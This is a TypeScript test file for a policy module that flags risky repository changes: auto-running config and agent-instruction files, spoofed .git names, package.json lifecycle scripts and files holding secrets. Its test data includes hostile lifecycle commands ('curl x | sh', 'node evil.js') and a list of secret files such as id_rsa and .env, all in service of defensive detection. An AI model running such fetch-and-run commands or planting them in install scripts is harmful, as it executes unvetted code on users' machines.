import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { fromText, nameProblem, shown } from './byte-path.js';
import { changesLifecycle, sensitiveAmong } from './landing/policy.js';
import { tryLock } from './lock.js';

it('names the changes that act when the folder is next opened', () => {
  const quiet = ['src/a.ts', 'docs/vscode.md', 'package.json', 'envrc', 'src/mise.ts', 'docs/pip.conf.md', 'agents.ts'];
  const loud = [
    '.husky/pre-commit',
    'sub/.envrc',
    '.github/workflows/ci.yml',
    'CLAUDE.md',
    '.vscode/tasks.json',
    '.npmrc',
    '.pre-commit-config.yaml',
    '.mcp.json',
    '.cargo/config.toml',
    '.yarn/releases/yarn.cjs',
    '.pnp.cjs',
    'gpj\u202etxt.exe',
    '.devcontainer.json',
    'my.code-workspace',
    'mise.toml',
    '.config/mise/config.toml',
    'pip.conf',
    '.github/instructions/a.md',
    'CLAUDE.local.md',
    '.kiro/steering/a.md',
  ];
  expect(sensitiveAmong([...quiet, ...loud])).toEqual(loud);
});

it('refuses names that some file system takes for .git, and no others', () => {
  const bad = ['.git/x', 'a/.GIT', 'git~1', '.g\u200cit', '.git ', '.git::$INDEX_ALLOCATION', 'a/../b', '/a', 'a//b'];
  for (const path of bad) expect(nameProblem(fromText(path)), path).not.toBeNull();
  for (const path of ['.gitignore', 'git', 'a.git', '.github/x']) expect(nameProblem(fromText(path)), path).toBeNull();
  expect(shown('\xff%a')).toBe('%FF%25a');
});

it('takes a lock from a process that is gone, and only from such a one', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'loom-lock-'));
  try {
    const file = join(dir, 'lock');
    const held = await tryLock(file);
    expect(held).not.toBeNull();
    expect(await tryLock(file)).toBeNull();
    const mark = readFileSync(file, 'utf8');
    await held?.release();
    // Of another process with this one's id; and of one before the machine started again, with its start time as well.
    for (const left of [`${process.pid} 1 nonce`, mark.replace(/@\S*/, '@another-boot')]) {
      writeFileSync(file, left);
      const taken = await tryLock(file);
      expect(taken).not.toBeNull();
      await taken?.release();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('tells scripts of a package.json that run by themselves from those that somebody calls', () => {
  const file = (scripts: unknown): Buffer => Buffer.from(JSON.stringify({ name: 'x', scripts }));
  expect(changesLifecycle(null, file({ test: 'vitest', build: 'tsc', prelint: 'x' }))).toBe(false);
  expect(changesLifecycle(null, file({ postinstall: 'node evil.js' }))).toBe(true);
  expect(changesLifecycle(file({ prepare: 'husky' }), file({ prepare: 'husky', test: 'x' }))).toBe(false);
  expect(changesLifecycle(file({ prepare: 'husky' }), file({ prepare: 'curl x | sh' }))).toBe(true);
  expect(changesLifecycle(file({ prepare: 'husky', install: 'y' }), file({ install: 'y', prepare: 'husky' }))).toBe(
    false,
  );
  expect(changesLifecycle(file({ prepare: 'husky' }), null)).toBe(false);
  expect(changesLifecycle(null, Buffer.from(`\ufeff${file({ install: 'x' }).toString()}`))).toBe(true);
  expect(changesLifecycle(null, Buffer.from('{ not json'))).toBe(false);
  expect(changesLifecycle(null, Buffer.from('null'))).toBe(false);
});

it('names the changes of files that hold secrets, and no examples of them', () => {
  const quiet = ['.env.example', 'env.ts', 'src/secrets.ts', 'docs/production.md', 'key.ts', 'src/product.json'];
  const held = ['.env', 'app/.env.production', 'id_rsa', 'tls/server.pem', 'config/secrets.yml', 'config/prod.json'];
  expect(sensitiveAmong([...quiet, ...held])).toEqual(held);
});
